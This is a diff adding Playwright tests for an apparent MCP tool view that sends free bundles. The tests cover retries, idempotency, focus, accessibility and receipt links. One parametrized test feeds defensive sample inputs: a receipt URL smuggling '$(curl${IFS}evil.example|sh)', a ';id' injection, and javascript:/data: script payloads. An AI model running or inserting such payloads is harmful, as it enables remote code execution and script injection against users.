@@ -35,7 +35,8 @@ HOST = "http://host.test"
 PANEL = {"width": 380, "height": 1400}
 PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Test host</title>
 <style>body { margin: 0; } iframe { display: block; width: 100%; border: 0; }</style></head>
-<body><script type="module" src="/host.js"></script></body></html>"""
+<body><label>Message <input id="composer"></label><script type="module" src="/host.js"></script>
+</body></html>"""
 FORWARDED = ("content-type", "accept", "mcp-protocol-version", "mcp-method", "mcp-name", "mcp-session-id")
 KEPT = ("content-type", "mcp-session-id", "allow")
 GENERATIONS = {"legacy": "legacy", "auto": "modern"}  # the client's mode -> the era it speaks
@@ -97,6 +98,7 @@ def chat(tab, host, host_js) -> Callable[..., Chat]:
         buyer: Buyer | None = None,
         bypass_csp: bool = False,
         rewrite: Callable[[dict], None] | None = None,
+        **host: object,
     ) -> Chat:
         buyer = buyer or Buyer(store.url)
         t = tab(PANEL, bypass_csp=bypass_csp)
@@ -104,9 +106,9 @@ def chat(tab, host, host_js) -> Callable[..., Chat]:
         t.context.route(f"{HOST}/**", lambda route: _serve(route, store, buyer, host_js, rewrite, wire))
         t.open(f"{HOST}/")
         t.page.wait_for_function("() => typeof window.startHost === 'function'")
-        started = t.page.evaluate(
-            "o => window.startHost(o)", {"mode": mode, "tool": tool, "args": args or {}}
-        )
+        t.page.focus("#composer")  # the person is in the chat, as when a tool's view appears
+        options = {"mode": mode, "tool": tool, "args": args or {}, **host}
+        started = t.page.evaluate("o => window.startHost(o)", options)
         frame = t.page.wait_for_selector("#view").content_frame()
         assert frame is not None
         return Chat(t, frame, started, buyer, wire)
@@ -346,3 +348,134 @@ def test_the_keyboard_alone_gets_a_bundle_and_axe_finds_nothing(chat, mail) -> N
     assert_accessible(frame)
     assert len(mail.emails_to(c.buyer.email)) == 1
     assert frame.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+
+
+# ----- a host that is not ideal, and what it sends ----------------------------------------------
+
+EMAIL = "Email address that receives it"
+RECEIPT_ID = "rcpt_" + "a" * 26
+
+
+def receipt_result(url: str) -> dict:
+    """A fulfilled receipt as a host might relay it, with `url` as its page."""
+    receipt = {
+        "receipt_id": RECEIPT_ID,
+        "status": "fulfilled",
+        "issued_at": "2026-12-07T10:00:00Z",
+        "bundle": {"id": STARTER.id, "title": STARTER.title},
+        "buyer": {"hint": "a***@e***.org"},
+        "checks": [{"name": "idempotency", "result": "pass", "detail": "key claimed"}],
+        "receipt_url": url,
+        "signature": {"alg": "ES256", "kid": "k1"},
+    }
+    return {
+        "content": [{"type": "text", "text": json.dumps(receipt)}],
+        "structuredContent": receipt,
+        "isError": False,
+    }
+
+
+def test_a_lost_answer_edits_and_a_decline_keep_one_key_and_one_email(chat, mail) -> None:
+    c = chat(loseAnswers=3)  # the store runs each; the host loses the first three answers
+    frame = c.frame
+    send = frame.get_by_role("button", name="Yes, send it")
+    frame.get_by_role("button", name=f"Get {STARTER.title}").click()
+    frame.get_by_label(EMAIL).fill(c.buyer.email)
+    send.click()
+    expect(frame.get_by_role("alert")).to_contain_text("The host reported an error: Request timed out.")
+    expect(frame.get_by_role("alert")).to_contain_text("the same request will not send a second email")
+
+    frame.get_by_label("Name in the email (optional)").fill("Ada")
+    frame.get_by_label("Name in the email (optional)").fill("")  # changed, then changed back
+    send.click()
+    expect(frame.get_by_role("alert")).to_contain_text("Request timed out")
+    frame.get_by_role("button", name="No, don't send").click()
+    frame.get_by_role("button", name=f"Get {STARTER.title}").click()
+    expect(frame.get_by_label(EMAIL)).to_have_value(c.buyer.email)
+    send.click()
+    expect(frame.get_by_role("alert")).to_contain_text("Request timed out")
+    send.click()
+
+    expect(frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
+    expect(frame.locator("#receipt-lead")).to_contain_text("nothing was sent again")
+    keys = {p["arguments"]["idempotency_key"] for p in c.purchases()}
+    assert len(c.purchases()) == 4 and len(keys) == 1
+    assert len(mail.emails_to(c.buyer.email)) == 1
+
+
+@pytest.mark.parametrize(
+    ("url", "link", "command"),
+    [
+        (f"https://store.example/api/receipts/{RECEIPT_ID}", True, True),
+        (f"https://store.example/api/receipts/{RECEIPT_ID}?a=$(curl${{IFS}}evil.example|sh)", True, False),
+        (f"https://store.example/api/receipts/{RECEIPT_ID};id", True, False),
+        (f"https://user:pw@evil.example/api/receipts/{RECEIPT_ID}", False, False),
+        ("javascript:alert(1)//https://store.example", False, False),
+        (" JAVASCRIPT:alert(1)", False, False),
+        ("data:text/html,<script>alert(1)</script>", False, False),
+        ("", False, False),
+    ],
+)
+def test_a_receipts_page_is_offered_only_as_a_web_link_and_pasted_only_when_plain(chat, url, link, command):
+    c = chat("legacy", "purchase_free_bundle", {"email": "ada@example.org"}, result=receipt_result(url))
+    frame = c.frame
+    expect(frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
+    expect(frame.get_by_role("link")).to_have_count(1 if link else 0)
+    verify = view_text(frame, "#receipt-verify")
+    assert ("python -m ops.verify_receipt" in verify) == command, verify
+    if command:
+        assert verify.endswith(f"python -m ops.verify_receipt {url} from the store's source.")
+
+
+def test_a_result_leaves_the_chats_focus_alone_and_a_dead_end_offers_the_bundles(chat) -> None:
+    c = chat("legacy", "purchase_free_bundle", {"email": "ada@example.org", "bundle_id": "no-such-bundle"})
+    frame = c.frame
+    expect(frame.get_by_role("alert")).to_have_text(
+        "That bundle is not offered any more. Choose another one."
+    )
+    assert c.tab.page.evaluate("document.activeElement.id") == "composer"  # the view took nothing
+
+    frame.get_by_role("button", name="See the bundles").click()
+    expect(frame.get_by_role("heading", name="Choose a bundle")).to_be_focused()  # asked for, here
+    expect(frame.locator("#bundles > li")).to_have_count(len(BUNDLES))
+
+
+def test_a_host_that_cannot_open_links_or_call_tools_is_told_so(chat, mail) -> None:
+    url = f"https://store.example/api/receipts/{RECEIPT_ID}"
+    c = chat(
+        "legacy", "purchase_free_bundle", {"email": "ada@example.org"}, caps={}, result=receipt_result(url)
+    )
+    expect(c.frame.get_by_role("link")).to_have_count(0)
+    expect(c.frame.locator("#receipt-link")).to_have_text(f"The receipt's page: {url}")
+
+    c = chat(caps={})
+    c.frame.get_by_role("button", name=f"Get {STARTER.title}").click()
+    c.frame.get_by_label(EMAIL).fill(c.buyer.email)
+    c.frame.get_by_role("button", name="Yes, send it").click()
+    expect(c.frame.get_by_role("alert")).to_contain_text("This host does not let the view call the store")
+    assert c.purchases() == [] and mail.emails_to(c.buyer.email) == []
+
+
+def test_the_dark_theme_passes_axe_and_host_requests_get_real_answers(chat) -> None:
+    c = chat(theme="dark", bypass_csp=True)
+    expect(c.frame.get_by_role("heading", name="Choose a bundle")).to_be_visible()
+    assert c.frame.evaluate("document.documentElement.dataset.theme") == "dark"
+    assert_accessible(c.frame)
+
+    answers = c.tab.page.evaluate(
+        """() => new Promise((resolve) => {
+            const view = document.getElementById("view").contentWindow;
+            const seen = {};
+            addEventListener("message", (event) => {
+                if (event.source === view && event.data && event.data.id >= 9000) {
+                    seen[event.data.id] = event.data;
+                    if (Object.keys(seen).length === 3) resolve(seen);
+                }
+            });
+            view.postMessage({ jsonrpc: "2.0", id: 9001, method: "ping" }, "*");
+            view.postMessage({ jsonrpc: "2.0", id: 9002, method: "tools/list" }, "*");
+            view.postMessage({ jsonrpc: "2.0", id: 9003, method: "ui/resource-teardown", params: {} }, "*");
+        })"""
+    )
+    assert answers["9001"]["result"] == {} and answers["9003"]["result"] == {}
+    assert answers["9002"]["error"]["code"] == -32601
